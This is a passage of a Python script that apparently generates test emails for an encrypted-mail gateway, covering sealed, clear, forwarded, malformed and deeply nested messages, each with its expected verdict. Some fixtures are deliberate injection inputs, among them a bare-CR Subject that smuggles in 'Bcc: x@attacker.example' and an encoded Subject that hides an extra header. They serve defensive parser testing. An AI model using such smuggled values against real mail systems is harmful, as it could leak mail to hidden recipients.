         mixed(text(), attached(passphrase, "LAID.xml.pgp")))
    case("no-key-attached", "CN-104", "attachment sealed to somebody else",
         mixed(text(), attached(seal(XML, to=(STRANGER,)), "LAID.xml.pgp")))
    case("several-inline", "CN-110", "two armours in one body", text(sealed(XML) + "\n\n" + sealed(CSV)))
    case("several-pgpmime", "CN-110", "two armours in one sealed part", pgp_mime(sealed(one) + "\n" + sealed(one)))
    case("several-binary", "CN-110", "two binary messages in one attachment",
         mixed(text(), attached(seal(XML) + seal(CSV), "LAID.xml.pgp")))
    case("odd-two-signers", "CN-111", "signed by DWP and by a stranger", pgp_mime(sealed(one, by=(DWP, STRANGER))))
    case("odd-signed-message", "CN-111", "an OpenPGP message that is signed and not encrypted",
         pgp_mime(armour(gpg("--sign", "--local-user", DWP, given=one))))
    case("odd-literal", "CN-111", "an OpenPGP message that is neither encrypted nor signed",
         text(armour(gpg("--store", given=XML))))
    case("odd-binary-surroundings", "CN-111", "words after a binary message in one attachment",
         mixed(text(), attached(seal(XML) + b"\r\n-- \r\nScanned.\r\n", "LAID.xml.pgp")))


def unsealed_cases():
    case("plain-text", "plain", "a text", text())
    case("plain-html", "plain", "text and HTML", multi("alternative", text(), html()))
    case("plain-attached", "plain", "a file attached in clear", mixed(text(), attached(XML, "LAID.xml")))
    case("plain-called-pgp", "plain", "a clear file called .pgp",
         mixed(text(), attached(XML, "LAID.xml.pgp", "application/pgp-encrypted")))
    case("plain-tnef", "plain", "winmail.dat", mixed(text(), attached(TNEF, "winmail.dat", "application/ms-tnef")))
    case("plain-uuencoded", "plain", "a uuencoded file within text", text("begin 644 a.txt\n#0V%T\n`\nend"))
    case("plain-empty", "plain", "an empty body", text(""))
    case("plain-header-only", "plain", "a header without the empty line after it",
         mail("").replace(b"\r\n\r\n", b"\r\n"))
    case("plain-encrypted-empty", "plain", "multipart/encrypted with nothing sealed in it",
         multi("encrypted", VERSION, octets("made up"), more=PGP_MIME))
    case("plain-bounce", "plain", "a bounce with the header only",
         multi("report", text("It could not be delivered."),
               leaf("Reporting-MTA: dns; mail.dwp.example\n", "message/delivery-status"),
               leaf("Subject: Made-up files\n", "text/rfc822-headers"), more="; report-type=delivery-status"))
    case("plain-forward", "plain", "a forward with nothing sealed in it", mixed(text(), forward(text())))
    case("smime-opaque", "s-mime", "S/MIME, opaque",
         leaf(wrapped(CMS), 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
              'Content-Disposition: attachment; filename="smime.p7m"', "Content-Transfer-Encoding: base64"))
    case("smime-old-type", "s-mime", "S/MIME by its old type, no name",
         leaf(wrapped(CMS), "application/x-pkcs7-mime", "Content-Transfer-Encoding: base64"))
    case("smime-by-name", "s-mime", "S/MIME by its name only", mixed(text(), attached(CMS, "smime.p7m")))
    case("smime-clear-signed", "s-mime", "S/MIME, clear-signed",
         multi("signed", text(), attached(CMS, "smime.p7s", "application/pkcs7-signature"),
               more='; micalg=sha-256; protocol="application/pkcs7-signature"'))
    case("signed-clear-text", "signed-only", "clear-signed text", text(CLEARSIGNED))
    protocol = '; micalg=pgp-sha256; protocol="application/pgp-signature"'
    case("signed-pgpmime", "signed-only", "multipart/signed", multi("signed", text(), SIGNATURE, more=protocol))
    case("signed-with-file", "signed-only", "multipart/signed with a clear file",
         multi("signed", mixed(text(), attached(XML, "LAID.xml"), b="b2"), SIGNATURE, more=protocol))
    case("signed-mailman", "signed-only", "multipart/signed and a mailing list's footer",
         mixed(multi("signed", text(), SIGNATURE, b="b2", more=protocol), FOOTER))


def forward_cases():
    one = holding((XML, "LAID.xml"))
    case("forward-pgpmime", "delivers", "a forward with PGP/MIME in it",
         mixed(text(), forward(pgp_mime(sealed(one), b="b2"))), XML)
    case("forward-only", "delivers", "the mail is the forward", forward(pgp_mime(sealed(one))), XML)
    case("forward-attached", "delivers", "a forward, as an attachment, with attachments in it",
         mixed(text(),
               forward(mixed(text(), attached(seal(XML), "LAID.xml.pgp"), attached(seal(CSV), "a.csv.pgp"), b="b2"),
                       'Content-Disposition: attachment; filename="Made-up files.eml"')), XML, CSV)
    case("forward-inline", "delivers", "a forward of armour as the body",
         mixed(text(), forward(text(sealed(XML)))), XML)
    case("forward-beside", "delivers", "a sealed attachment and a forward with another",
         mixed(text(), attached(seal(CSV), "a.csv.pgp"), forward(pgp_mime(sealed(one), b="b2"))), CSV, XML)
    case("forward-two", "delivers", "two forwards beside each other",
         mixed(forward(text(sealed(laid(1)))), forward(text(sealed(laid(2))))), laid(1), laid(2))
    case("forward-with-clear", "partly-sealed", "a forward with a clear file beside the sealed",
         mixed(text(), forward(mixed(attached(seal(XML), "LAID.xml.pgp"), attached(CSV, "a.csv"), b="b2"))))
    case("forward-bounce", "partly-sealed", "a bounce that returns the sealed mail: its delivery status lies in clear",
         multi("report", text("It could not be delivered."),
               leaf("Reporting-MTA: dns; mail.dwp.example\n", "message/delivery-status"),
               forward(pgp_mime(sealed(one), b="b2")), more="; report-type=delivery-status"))
    case("forward-stranger", "CN-106", "a forward of what a stranger signed",
         mixed(text(), forward(text(sealed(XML, by=(STRANGER,))))))
    case("forward-base64", "ambiguous", "a forward in base64",
         mixed(text(),
               leaf(wrapped(mail(pgp_mime(sealed(one)))), "message/rfc822", "Content-Transfer-Encoding: base64")))
    case("forward-doubled-field", "ambiguous", "a forward with two Content-Types in its header",
         mixed(text(), forward("Content-Type: text/html\n" + text(sealed(XML)))))
    case("forward-in-forward", "limit", "a forward in a forward",
         mixed(text(), forward(mixed(text(), forward(text(sealed(XML))), b="b2"))))
    case("forward-forward-only", "limit", "a forward that is a forward", forward(forward(text(sealed(XML)))))


def limit_cases():
    def nested(entity, levels):
        for level in range(levels):
            entity = mixed(entity, b=f"n{level:02}")
        return entity

    case("deep-8", "delivers", "eight multiparts within each other",
         nested(attached(seal(XML), "LAID.xml.pgp"), 8), XML)
    case("deep-9", "limit", "nine multiparts within each other", nested(attached(seal(XML), "LAID.xml.pgp"), 9))
    case("deep-40", "limit", "forty multiparts within each other", nested(attached(seal(XML), "LAID.xml.pgp"), 40))
    case("deep-inner", "limit", "an inner entity with twelve multiparts within each other",
         pgp_mime(sealed(inner(nested(attached(XML, "LAID.xml"), 12)))))
    case("many-90", "delivers", "ninety parts", mixed(*[text("-")] * 89, attached(seal(XML), "LAID.xml.pgp")), XML)
    case("many-150", "limit", "a hundred and fifty parts",
         mixed(*[text("-")] * 149, attached(seal(XML), "LAID.xml.pgp")))
    case("many-150-plain", "limit", "a hundred and fifty parts, none sealed", mixed(*[text("-")] * 150))


def ambiguous_cases():
    def ambiguous(name, note, content):
        case(f"ambiguous-{name}", "ambiguous", note, content)

    one = holding((XML, "LAID.xml"))
    file = attached(seal(XML), "LAID.xml.pgp")
    good = mixed(text(), file)
    ambiguous("two-types", "two Content-Types", "Content-Type: text/plain\n" + good)
    ambiguous("two-types-alike", "two Content-Types that say the same", good.split("\n")[0] + "\n" + good)
    ambiguous("two-types-part", "a part with two Content-Types", mixed(text(), "Content-Type: text/plain\n" + file))
    ambiguous("two-encodings", "a part with two transfer encodings",
              mixed(text(), "Content-Transfer-Encoding: 7bit\n" + file))
    ambiguous("two-dispositions", "a part with two dispositions",
              mixed(text(), "Content-Disposition: inline\n" + file))
    ambiguous("two-boundaries", "two boundary parameters",
              good.replace('boundary="b1"', 'boundary="b0"; boundary="b1"'))
    ambiguous("two-boundaries-2231", "a boundary, and another in RFC 2231",
              good.replace('boundary="b1"', "boundary=\"b1\"; boundary*=us-ascii''b0"))
    ambiguous("two-names", "two name parameters", mixed(text(), file.replace("; name=", '; name="a.txt"; name=')))
    ambiguous("two-filenames", "two filename parameters",
              mixed(text(), file.replace("; filename=", '; filename="a.txt"; filename=')))
    ambiguous("boundary-equal", "a boundary that equals the enclosing one",
              mixed(text(), pgp_mime(sealed(one), b="b1"), b="b1"))
    ambiguous("boundary-prefix", "a boundary that is a prefix of the enclosing one",
              mixed(text(), pgp_mime(sealed(one), b="b1"), b="b1x"))
    ambiguous("boundary-extends", "a boundary that begins with the enclosing one",
              mixed(text(), pgp_mime(sealed(one), b="b1x"), b="b1"))
    ambiguous("boundary-none", "multipart without a boundary", good.replace('; boundary="b1"', ""))
    ambiguous("boundary-empty", "multipart with an empty boundary", good.replace('boundary="b1"', 'boundary=""'))
    ambiguous("boundary-never", "a boundary that never occurs", good.replace('boundary="b1"', 'boundary="b2"'))
    ambiguous("boundary-2047", "a boundary hidden by RFC 2047",
              good.replace('boundary="b1"', 'boundary="=?us-ascii?Q?b1?="'))
    ambiguous("type-2047", "a Content-Type hidden by RFC 2047",
              good.replace('multipart/mixed; boundary="b1"', "=?us-ascii?Q?multipart/mixed=3B_boundary=3Db1?="))
    ambiguous("boundary-comment", "a boundary within a comment",
              good.replace('boundary="b1"', '(boundary="b0";) boundary="b1"'))
    ambiguous("comment-open", "a comment that does not end before the boundary",
              good.replace('; boundary="b1"', '; (boundary="b1"'))
    ambiguous("after-close", "a further part after the closing boundary",
              good + f"--b1\n{attached(CSV, 'a.csv')}\n--b1--\n")
    ambiguous("multipart-base64", "a multipart in base64",
              'Content-Type: multipart/mixed; boundary="b1"\nContent-Transfer-Encoding: base64\n\n'
              + wrapped(good.split("\n\n", 1)[1].encode()))
    ambiguous("multipart-base64-label", "a multipart that is only called base64",
              good.replace("\n\n", "\nContent-Transfer-Encoding: base64\n\n", 1))
    ambiguous("encoding-unknown", "an unknown transfer encoding",
              mixed(text(), file.replace("Encoding: base64", "Encoding: x-uuencode")))
    ambiguous("base64-garbage", "characters in base64 that do not belong there",
              mixed(text(), file[:-40] + "*!" + file[-40:]))
    ambiguous("base64-after-padding", "base64 after its padding",
              mixed(text(), attached(padded(sealed(XML)), "LAID.xml.asc") + "\n" + wrapped(CSV)))
    ambiguous("header-junk", "a header line that is no field", "this is no field\n" + good)
    ambiguous("header-junk-part", "a part's header with a line that is no field",
              mixed(text(), "this is no field\n" + file))
    ambiguous("header-no-gap", "a part whose text begins without an empty line",
              good.replace("\n\nPlease", "\nPlease"))
    ambiguous("header-none", "armour at once, with neither header nor empty line",
              sealed(XML).replace("\n", "\r\n").encode())
    ambiguous("mbox-line", "an mbox line before the header",
              b"From dwp@dwp.example Mon Apr 20 09:00:00 2020\r\n" + mail(good))
    ambiguous("bare-cr-header", "a bare CR in the header",
              mail(good).replace(b"Made-up files", b"Made-up\rBcc: x@attacker.example"))
    ambiguous("bare-cr-body", "a bare CR in the cover note", mail(good).replace(b"find enclosed", b"find\renclosed"))
    ambiguous("bare-cr-preamble", "a bare CR in the preamble",
              mail(mixed(text(), file, before="a preamble\n")).replace(b"a preamble", b"a\rpreamble"))
    ambiguous("nul-header", "a NUL in the header", mail(good).replace(b"Made-up files", b"Made-up\0files"))
    ambiguous("nul-body", "a NUL in the cover note", mail(good).replace(b"find enclosed", b"find\0enclosed"))
    ambiguous("mixed-ends", "CRLF, and one bare LF", mail(good).replace(b"enclosed.\r\n", b"enclosed.\n"))
    ambiguous("mixed-ends-header", "CRLF in the body and LF in the header", mail(good).replace(b"\r\n", b"\n", 5))
    raw = seal(XML)
    while b"\0" not in raw:
        raw = seal(XML)
    ambiguous("binary", "a sealed part as raw binary, with NUL in it",
              mail(mixed(text(),
                         leaf("RAW", "application/octet-stream", "Content-Transfer-Encoding: binary"))).replace(b"RAW",
                                                                                                                raw))


def header_cases():
    good = pgp_mime(sealed(holding((XML, "LAID.xml"))))
    type_field, rest = good.split("\n", 1)

    def odd(name, note, content):
        case(f"header-{name}", "delivers", note, content, XML)

    odd("folded", "Content-Type in several lines", type_field.replace("; ", ";\n\t") + "\n" + rest)
    odd("upper-case", "field names and values in capitals",
        'CONTENT-TYPE: MULTIPART/ENCRYPTED; BOUNDARY="b1"; PROTOCOL="APPLICATION/PGP-ENCRYPTED"\n'
        + rest.replace("Content-Type: application", "CONTENT-TYPE: APPLICATION"))
    odd("encoding-upper-case", "BASE64 in capitals",
        mixed(text(), attached(seal(XML), "LAID.xml.pgp").replace("Encoding: base64", "Encoding: BASE64")))
    case("header-comment", "ambiguous", "Content-Type with a comment, which not every reader skips",
         type_field.replace("; boundary", " (as agreed); boundary") + "\n" + rest)
    odd("tabs", "tabs instead of blanks", type_field.replace(" ", "\t") + "\n" + rest)
    odd("no-space", "no blank after the colon", type_field.replace(": ", ":") + "\n" + rest)
    odd("unquoted", "a boundary without quotation marks", type_field.replace('"b1"', "b1") + "\n" + rest)
    odd("two-subjects", "two Subjects", "Subject: Made-up files again\n" + good)
    odd("no-date", "no Date", mail(good, date=False))
    odd("eight-bit", "raw UTF-8 and Latin-1 in header fields", "Comments: \xc2\xa3 \xa3\n" + good)
    odd("eight-bit-subject", "raw UTF-8 in the Subject", mail(good, subject="Made-up \xc2\xa3"))
    odd("2047-subject", "a Subject in RFC 2047 that looks like a header",
        mail(good, subject="=?utf-8?B?TWFkZS11cA0KQ29udGVudC1UeXBlOiB0ZXh0L3BsYWlu?="))
    odd("long", "a header of two hundred fields", "".join(f"X-Made-Up-{n}: {n}\n" for n in range(200)) + good)
    odd("none", "no header at all: an empty line, then armour", ("\n" + sealed(XML)).replace("\n", "\r\n").encode())
    odd("encrypted-subject", "the dots that Enigmail puts for the Subject", mail(good, subject="..."))


def padded(armoured):
    """With line ends after it, so that its base64 ends in padding."""
    return armoured + "\n" * (1 + -len(armoured) % 3)


def main():
    """Makes everything anew."""
    global HOME, CLEARSIGNED, SIGNATURE
    for old in HERE.glob("*.eml"):
        old.unlink()
    with tempfile.TemporaryDirectory() as HOME:
        try:
            make_keys()
            CLEARSIGNED = gpg("--clear-sign", "--local-user", DWP, given=b"Nothing to report.\n").decode().rstrip("\n")
            signature = gpg("--armor", "--detach-sign", "--textmode", "--local-user", DWP, given=inner(text()))
            SIGNATURE = leaf(signature.decode().rstrip("\n"), 'application/pgp-signature; name="signature.asc"')
            for cases in (pgp_mime_cases, gateway_cases, attachment_cases, inline_cases, attack_cases, unsealed_cases,
                          forward_cases, limit_cases, ambiguous_cases, header_cases):
                cases()
        finally:
            subprocess.run(["gpgconf", "--homedir", HOME, "--kill", "gpg-agent"], check=False)
    with open(HERE / "verdicts.csv", "w", newline="", encoding="utf-8") as out:
        csv.writer(out, lineterminator="\n").writerows([("file", "verdict", "files", "note"), *ROWS])


if __name__ == "__main__":
    main()
